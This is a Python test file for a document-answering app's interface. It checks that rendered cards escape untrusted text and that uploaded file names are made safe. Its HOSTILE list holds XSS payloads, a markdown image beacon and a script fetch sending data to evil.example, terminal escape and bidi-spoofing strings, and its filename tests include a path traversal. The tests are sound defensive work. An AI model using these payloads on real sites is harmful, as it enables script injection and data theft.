"""Words from documents stay words; dropped files get safe names; suggestions fit what is held."""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from ingest.errors import UnusableInput
from ingest.schema import BlockKind, DocumentKind, Location, Passage
from rag.schema import Answer, Channel, Citation, Claim, Hit, Status, Verdict
from ui import cards
from ui.suggest import asked_again
from ui.uploads import keep_upload, safe_name


@given(st.text())
def test_no_text_becomes_markup(words: str) -> None:
    for shown in (
        cards.text(words),
        cards.writing([words], 0),
        cards.row_table(words),
        cards.marked_text(words, words),
    ):
        inside = shown.replace("<br>", "")
        assert "<img" not in inside
        assert "<script" not in inside
        assert "<a" not in inside
        assert "\x1b" not in inside


HOSTILE = [
    "![x](http://evil.example/beacon.png?q=secret)",
    "[click](javascript:alert(1))",
    "<img src=http://evil.example/p.png onerror=alert(1)>",
    "<script>fetch('http://evil.example')</script>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "<link rel=stylesheet href=//evil.example/a.css><style>@import url(//evil.example)</style>",
    "\x1b[2J\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "safe \u202egnp.exe\u202c \u2066x\u2069 \U000e0049\U000e0067 \u200bend",
    "$\\href{javascript:alert(1)}{x}$ :material/home: :red[x]",
]


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_stay_words_in_every_card(words: str) -> None:
    place = Location(page=1, heading=(words,))
    passage = Passage(words, words, DocumentKind.MANUAL, BlockKind.TABLE, place, f"{words} | {words}", context=words)
    citation = Citation(1, 1, words, words, place, f"{words} | {words}", (), words)
    hit = Hit(passage, 1.0, {Channel.LEXICAL: 1})
    claim = Claim(words, (1,), Verdict.UNSUPPORTED, words)
    answer = Answer("1", words, Status.ANSWERED, words, (citation,), (claim,), (), words, 1, {words: 1.0})
    shown = "".join(
        [
            cards.text(words), cards.question(words), cards.quote(citation, passage),
            cards.quote(citation, None), cards.source(citation), cards.row_line(words), cards.row_table(words),
            cards.cell_table(f"{words} | {words}", f"{words}\n{words} | {words}"), cards.why_list([hit], [0]),
            cards.left_out(answer), cards.made_by(answer), cards.timings(answer), cards.marked_text(words, words),
            cards.status(answer), cards.waiting(words), cards.writing([words], 0),
            cards.notice(replace(answer, notice=words)),
        ]
    )  # fmt: skip
    page = LexborHTMLParser(shown)
    assert not page.css("img, script, svg, math, style, link, iframe, object, a, form")
    attributes = {name for node in page.css("*") for name in node.attributes}
    assert attributes <= _ALLOWED
    assert not set(shown) & set("\x1b\x07\u202e\u2066\u200b\U000e0049")
    assert "".join(part for line in cards.sentences(words) for part, _ in line).isprintable()


@given(st.text(alphabet=st.sampled_from("![]()<>*_`~$#|:\\ax\x1b\u202e")))
def test_a_plain_label_has_no_sign_that_markdown_reads(words: str) -> None:
    shown = cards.plain_label(words)
    assert not re.search(r"(?<!\\)(?:\\\\)*[!\[\]()<>*_`~$#|:]", shown)
    assert "\x1b" not in shown


_ALLOWED = {"class", "role", "aria-hidden", "scope", "data-head", "tabindex"}


def test_a_quote_is_marked_where_it_stands() -> None:
    assert "a <mark>&lt;b&gt;</mark> c" in cards.marked_text("a <b> c", "<b>")


def test_an_answer_is_cut_at_its_numbers() -> None:
    assert cards.sentences("Set 5 bar [1].\n\nThen wait [2][3]") == [
        [("Set 5 bar", 0), ("", 1), (".", 0)],
        [("Then wait", 0), ("", 2), ("", 3)],
    ]


def test_a_table_line_is_shown_under_its_heads() -> None:
    shown = cards.cell_table("M36 | 1,250", "Table 3: Torques\nBolt | Torque, Nm")
    assert "<caption>Table 3: Torques</caption>" in shown
    assert '<td data-head="Torque, Nm">1,250</td>' in shown


@pytest.mark.parametrize(
    ("given_name", "kept"),
    [
        ("manual.pdf", "manual.pdf"),
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\plant\\a b.pdf", "a b.pdf"),
        ("Prüfbericht (2).pdf", "Prüfbericht (2).pdf"),
        (".hidden.csv", "hidden.csv"),
        ("a:b*c?.csv", "a_b_c_.csv"),
        ("con.txt", "_con.txt"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_dropped_files_get_safe_names(given_name: str, kept: str) -> None:
    assert safe_name(given_name) == kept


@given(st.text())
def test_no_name_leaves_the_folder(given_name: str) -> None:
    try:
        kept = safe_name(given_name)
    except UnusableInput:
        return
    assert Path(kept).name == kept
    assert not kept.startswith(".")


def test_dropped_files_have_a_size_limit(tmp_path: Path) -> None:
    with pytest.raises(UnusableInput, match="at most 1 MB"):
        keep_upload("a.txt", b"x" * (1 << 21), tmp_path, 1)
    with pytest.raises(UnusableInput, match="empty"):
        keep_upload("a.txt", b"", tmp_path, 1)
    assert not (tmp_path / "uploads").exists()


def test_a_meant_code_takes_the_place_of_the_one_most_like_it() -> None:
    assert asked_again("torque for P-101B and V-12?", "P-101A") == "torque for P-101A and V-12?"
    assert asked_again("torque?", "P-101A") == "torque? (P-101A)"
